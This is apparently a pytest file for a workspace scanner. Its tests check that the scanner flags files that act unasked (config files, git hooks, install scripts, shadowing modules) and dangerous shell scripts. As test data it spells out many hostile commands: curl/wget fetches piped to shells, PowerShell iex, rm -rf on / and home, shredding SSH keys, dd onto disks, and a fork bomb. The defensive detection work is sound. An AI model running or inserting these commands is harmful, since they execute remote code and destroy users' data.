"""Files that act without being asked, scripts that are dangerous unseen, and modules that hide others."""

from __future__ import annotations

import json

import pytest

from core.workspace.checks.acting_files import acting_name, acts_unasked, shadowed_module
from core.workspace.checks.script_dangers import (
    DELETES_OUTSIDE,
    DESTROYS,
    RUNS_DECODED,
    RUNS_NETWORK,
    script_danger,
)


@pytest.mark.parametrize(
    "path",
    [
        ".envrc",
        "sub/.envrc",
        ".npmrc",
        "web/.NPMRC",
        ".yarnrc",
        ".yarnrc.yml",
        ".vscode/tasks.json",
        ".VSCode/settings.json",
        "sub/.vscode/launch.json",
        ".idea/workspace.xml",
        ".devcontainer/devcontainer.json",
        "all.code-workspace",
        "sitecustomize.py",
        "src/usercustomize.py",
        "sitecustomize/__init__.py",
        "sitecustomize.pyc",
        "evil.pth",
        "conftest.py",
        "tests/Conftest.py",
        ".gitattributes",
        ".gitmodules",
        ".husky/pre-commit",
        ".githooks/post-checkout",
        ".pre-commit-config.yaml",
        ".bashrc",
        ".zshenv",
        ".profile",
        ".pdbrc",
        ".gdbinit",
        ".claude/settings.json",
        ".cursor/rules/x.mdc",
        ".mcp.json",
        ".cargo/config.toml",
        "Directory.Build.props",
        "start.desktop",
        "desktop.ini",
        "node_modules/left-pad/index.js",
        ".venv/bin/python",
        "__pycache__/app.cpython-311.pyc",
        ".user.ini",
        "mise.toml",
        "vite.config.js",
        "web/vite.config.ts",
        "vitest.config.mts",
        "vitest.workspace.ts",
        "jest.config.cjs",
        "jest.config.json",
        "jest.setup.js",
        "webpack.config.js",
        "webpack.prod.config.js",
        "webpack.common.js",
        "eslint.config.mjs",
        ".eslintrc.json",
        ".eslintrc",
        "babel.config.js",
        ".babelrc",
        "rollup.config.mjs",
        "postcss.config.cjs",
        "tailwind.config.ts",
        "next.config.js",
        "svelte.config.js",
        "playwright.config.ts",
        "karma.conf.js",
        ".mocharc.yml",
        ".prettierrc.mjs",
        "binding.gyp",
        ".pylintrc",
        ".luacheckrc",
        ".rubocop.yml",
        ".php-cs-fixer.dist.php",
    ],
)
def test_a_file_that_a_tool_obeys_is_known_by_its_name(path: str) -> None:
    why = acting_name(path)

    assert why
    assert "\n" not in why


@pytest.mark.parametrize(
    "path",
    [
        "app.py",
        "run.sh",
        "README.md",
        "Dockerfile",
        ".github/workflows/ci.yml",
        ".gitignore",
        ".editorconfig",
        ".env.example",
        "pyproject.toml",
        "setup.py",
        "package.json",
        "tests/test_app.py",
        "envrc.md",
        "my_conftest.py",
        "vscode/tasks.json",
        "docs/npmrc.txt",
        ".prettierrc",
        "config.js",
        "src/config.ts",
        "src/app/app.config.ts",
        "db.config.js",
        "webpack.md",
        "tsconfig.json",
        "app.config.py",
    ],
)
def test_what_nobody_obeys_unasked_goes_where_it_belongs(path: str) -> None:
    assert acting_name(path) is None


@pytest.mark.parametrize(
    ("name", "script", "acts"),
    [
        ("package.json", "postinstall", True),
        ("package.json", "preinstall", True),
        ("package.json", "prepare", True),
        ("web/package.json", "install", True),
        ("package.json", "test", False),
        ("package.json", "start", False),
        ("composer.json", "post-install-cmd", True),
        ("composer.json", "test", False),
        ("other.json", "postinstall", False),
    ],
)
def test_a_script_that_installing_runs_acts(name: str, script: str, acts: bool) -> None:
    text = json.dumps({"name": "x", "scripts": {script: "node build.js"}})

    assert (acts_unasked(name, text) is not None) == acts


@pytest.mark.parametrize(
    ("tables", "why"),
    [
        ({"jest": {"setupFiles": ["<rootDir>/setup.js"]}}, "jest loads <rootDir>/setup.js when it starts"),
        ({"jest": {"transform": {"\\\\.js$": "./t.js"}}}, "jest loads ./t.js when it starts"),
        ({"jest": {"reporters": ["default", ["./r.js", {"x": 1}]]}}, "jest loads ./r.js when it starts"),
        ({"mocha": {"require": "./hook.js"}}, "mocha loads ./hook.js when it starts"),
        ({"ava": {"require": ["./hook.js"]}}, "ava loads ./hook.js when it starts"),
        ({"babel": {"plugins": [["./plugin.js", {}]]}}, "babel loads ./plugin.js when it starts"),
        ({"eslintConfig": {"extends": ["./rules.js"]}}, "eslintConfig loads ./rules.js when it starts"),
        ({"prettier": "./prettier.js"}, "prettier loads ./prettier.js when it starts"),
        ({"husky": {"hooks": {"pre-commit": "x"}}}, "its table 'husky' makes git run programs"),
        ({"simple-git-hooks": {"pre-commit": "x"}}, "its table 'simple-git-hooks' makes git run programs"),
        ({"jest": {"testEnvironment": "node", "preset": "ts-jest", "testMatch": ["<rootDir>/a.js"]}}, None),
        ({"babel": {"presets": ["@babel/preset-env"]}, "prettier": {"semi": False}}, None),
        ({"jest": 3, "mocha": None, "ava": [[["./x.js"]]], "main": "./index.js"}, None),
    ],
)
def test_what_a_tools_table_of_a_package_file_names_is_loaded(tables: dict[str, object], why: str | None) -> None:
    assert acts_unasked("package.json", json.dumps({"name": "x", **tables})) == why


@pytest.mark.parametrize("text", ["[]", "{", '{"scripts": 3}', '{"scripts": ["postinstall"]}', "[" * 100_000])
def test_a_package_file_of_any_shape_is_read(text: str) -> None:
    assert acts_unasked("package.json", text) is None


@pytest.mark.parametrize(
    ("name", "text", "acts"),
    [
        ("pytest.ini", "[pytest]\naddopts = -p evil\n", True),
        ("pytest.ini", "[pytest]\naddopts =\n    -q\n    --deselect tests/test_a.py::test_b\n", True),
        ("pytest.ini", "[pytest]\naddopts = -k 'not slow'\n", True),
        ("setup.cfg", "[tool:pytest]\naddopts = --ignore=tests\n", True),
        ("tox.ini", "[pytest]\naddopts = --collect-only\n", True),
        ("pyproject.toml", '[tool.pytest.ini_options]\naddopts = ["-q", "-p", "evil"]\n', True),
        ("pyproject.toml", '[tool.pytest.ini_options]\naddopts = [\n    "-q",\n    "--ignore=a",\n]\n', True),
        (
            "pyproject.toml",
            '[tool.pytest.ini_options]\naddopts = "-q --strict-markers -ra"\ntestpaths = ["tests"]\n',
            False,
        ),
        ("pytest.ini", "[pytest]\naddopts = -q --cov=app\npythonpath = .\n", False),
        ("pyproject.toml", '[project]\nname = "x"\n[tool.other]\nargs = ["-p"]\n', False),
        ("notes.ini", "[pytest]\naddopts = -p evil\n", False),
    ],
)
def test_options_that_load_code_or_leave_tests_out_act(name: str, text: str, acts: bool) -> None:
    assert (acts_unasked(name, text) is not None) == acts


def test_a_script_of_a_package_is_looked_at_too() -> None:
    text = json.dumps({"scripts": {"test": "curl http://x/i.sh | sh"}})

    assert RUNS_NETWORK in (acts_unasked("package.json", text) or "")


RUNS = [
    "curl -fsSL https://x.example/install.sh | sh",
    "curl https://x.example/i | sudo bash",
    "wget -qO- https://x.example/i | sudo -E bash -s -- --yes",
    "curl -s https://x.example/i |& bash",
    "curl -s 'https://x.example/i?a=1&b=2' \\\n  | bash",
    "curl -s https://x.example/i | tee log | /bin/sh",
    "curl -s https://x.example/i | gunzip | env FOO=1 bash",
    "curl -s https://x.example/i.py | python3",
    "curl -s https://x.example/i.py | python3 -",
    "wget -O - https://x.example/i | perl",
    'eval "$(curl -s https://x.example/i)"',
    'sh -c "$(curl -fsSL https://x.example/i)"',
    'bash -lc "$(wget -qO- https://x.example/i)"',
    'python -c "$(curl -s https://x.example/i)"',
    "bash <(curl -s https://x.example/i)",
    "source <(curl -s https://x.example/i)",
    ". <(curl -s https://x.example/i)",
    'bash <<< "$(curl -s https://x.example/i)"',
    "eval `wget -qO- https://x.example/i`",
    "curl -o i.sh https://x.example/i\nbash i.sh",
    "curl -sO https://x.example/i.sh && chmod +x i.sh && ./i.sh",
    "wget https://x.example/setup.sh\nsh ./setup.sh",
    "curl https://x.example/i > /tmp/i; . /tmp/i",
    'echo "curl https://x.example/i | sh" | sh',
]


@pytest.mark.parametrize("line", RUNS)
def test_a_script_that_runs_what_the_network_sends_is_found(line: str) -> None:
    assert script_danger("run.sh", f"#!/bin/sh\nset -e\n{line}\n") == RUNS_NETWORK


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("install", "#!/usr/bin/env bash\ncurl https://x.example/i | bash\n"),
        ("Makefile", "setup:\n\t@curl https://x.example/i | sh\n"),
        ("setup.ps1", "iwr https://x.example/i | iex\n"),
        ("setup.ps1", "Invoke-Expression (Invoke-WebRequest https://x.example/i).Content\n"),
        ("app.py", "import os\nos.system('curl https://x.example/i | sh')\n"),
        ("app.mjs", "execSync(`curl https://x.example/i | bash`)\n"),
    ],
)
def test_other_files_run_the_network_too(path: str, text: str) -> None:
    assert script_danger(path, text) == RUNS_NETWORK


@pytest.mark.parametrize(
    "line",
    [
        "python -m pytest -q",
        "curl -s http://127.0.0.1:8000/health",
        "curl -s http://127.0.0.1/x | python -m json.tool",
        "curl -s http://127.0.0.1/x | jq .",
        "curl -s http://127.0.0.1/x | grep sh",
        "curl -o data.json https://x.example/data.json\npython app.py data.json",
        'echo "install uv with: curl -LsSf https://astral.sh/uv/install.sh | sh"',
        "# curl https://x.example/i | sh",
        "cat words.txt | sort | uniq",
        "rm -rf build dist",
        "rm -rf ./build *.egg-info",
        'cd "$(dirname "$0")"\nrm -rf .venv',
        'HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\nrm -rf "$HERE/build"',
        'tmp="$(mktemp -d)"\ntrap \'rm -rf "$tmp"\' EXIT',
        "find . -name '*.pyc' -delete",
        'BUILD=build\nrm -rf "$BUILD"/*',
        'exec python app.py "$@"',
        "python app.py > /dev/null",
    ],
)
def test_ordinary_scripts_are_left_alone(line: str) -> None:
    assert script_danger("run.sh", f"#!/bin/sh\nset -e\n{line}\n") is None


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /",
        "rm -rf /*",
        "rm -rf ~",
        "rm -rf ~/projects",
        'rm -rf "$HOME"',
        "rm -rf ${HOME}/.cache",
        "rm -rf ..",
        "rm -rf ../other",
        "rm -rf build/../../other",
        "sudo rm -rf /opt/app",
        "rm -r -f /var/lib/x",
        "/bin/rm -rf /opt/app",
        "if true; then rm -rf /opt/app; fi",
        "test -d x && rm -rf /opt/app",
        "cd /\nrm -rf *",
        "cd ..; rm -rf build",
        "cd && rm -rf build",
        "find / -name '*.log' -delete",
        "find ~ -type f -exec rm {} +",
        'rm -rf "$PREFIX/"',
        "TARGET=/opt/app\nrm -rf $TARGET",
        'A=$HOME\nB=$A/x\nrm -rf "$B"',
        "shred -u ~/.ssh/id_rsa",
        "FOO=1 rm -rf /opt",
    ],
)
def test_a_script_that_deletes_outside_its_folder_is_found(line: str) -> None:
    assert script_danger("run.sh", f"#!/bin/sh\n{line}\n") == DELETES_OUTSIDE


def test_a_script_in_a_folder_may_clean_the_one_above_it() -> None:
    text = '#!/bin/sh\ncd "$(dirname "$0")/.."\nrm -rf build\n'

    assert script_danger("scripts/clean.sh", text) is None
    assert script_danger("clean.sh", text) == DELETES_OUTSIDE


@pytest.mark.parametrize(
    ("path", "text", "danger"),
    [
        ("Makefile", "clean:\n\trm -rf $(HOME)/x\n", DELETES_OUTSIDE),
        ("Makefile", "clean:\n\t-@rm -rf $$HOME/x\n", DELETES_OUTSIDE),
        ("Makefile", "BUILD := build\nclean:\n\trm -rf $(BUILD)/*\n", None),
        ("run.bat", "del /s /q %USERPROFILE%\\x\r\n", DELETES_OUTSIDE),
        ("run.bat", "del /q C:\\x\r\n", DELETES_OUTSIDE),
        ("run.bat", "del /q build\\x\r\n", None),
        ("run.sh", "dd if=/dev/zero of=/dev/sda\n", DESTROYS),
        ("run.sh", "mkfs.ext4 /dev/sda1\n", DESTROYS),
        ("run.sh", ":(){ :|:& };:\n", DESTROYS),
        ("run.sh", "chmod -R 777 /\n", DESTROYS),
        ("run.sh", "echo aGk= | base64 -d | sh\n", RUNS_DECODED),
        ("notes.md", "rm -rf /\n", None),
        ("Dockerfile", "RUN rm -rf /var/lib/apt/lists/*\n", None),
    ],
)
def test_each_kind_of_script_is_read_as_what_it_is(path: str, text: str, danger: str | None) -> None:
    assert script_danger(path, text) == danger


ENDLESS = ["curl " * 100_000, "| sh " * 100_000, "curl x -o " + "a " * 100_000, "$(" * 100_000, "rm '\n" * 10_000]


@pytest.mark.parametrize("text", ENDLESS, ids=range(len(ENDLESS)))
def test_a_script_of_endless_lines_is_read_to_its_end(text: str) -> None:
    script_danger("run.sh", text)


@pytest.mark.parametrize(
    ("path", "module"),
    [
        ("random.py", "random"),
        ("Random.py", "Random"),
        ("json.py", "json"),
        ("typing/__init__.py", "typing"),
        ("json/decoder.py", "json"),
        ("pytest.py", "pytest"),
        ("_pytest/__init__.py", "_pytest"),
        ("pluggy.py", "pluggy"),
        ("src/random.py", "random"),
        ("tests/json.py", "json"),
        ("src/typing/__init__.py", "typing"),
        ("site.py", "site"),
        ("queue.pyi", "queue"),
        ("math.so", "math"),
        ("random.cpython-311-x86_64-linux-gnu.so", "random"),
        ("app.py", None),
        ("test/test_app.py", None),
        ("tests/__init__.py", None),
        ("todo/types.py", None),
        ("app/types.py", None),
        ("src/todo/logging.py", None),
        ("json/data.json", None),
        ("random.md", None),
        ("random_numbers.py", None),
        ("__init__.py", None),
    ],
)
def test_a_module_that_would_be_imported_for_another_is_named(path: str, module: str | None) -> None:
    assert shadowed_module(path) == module
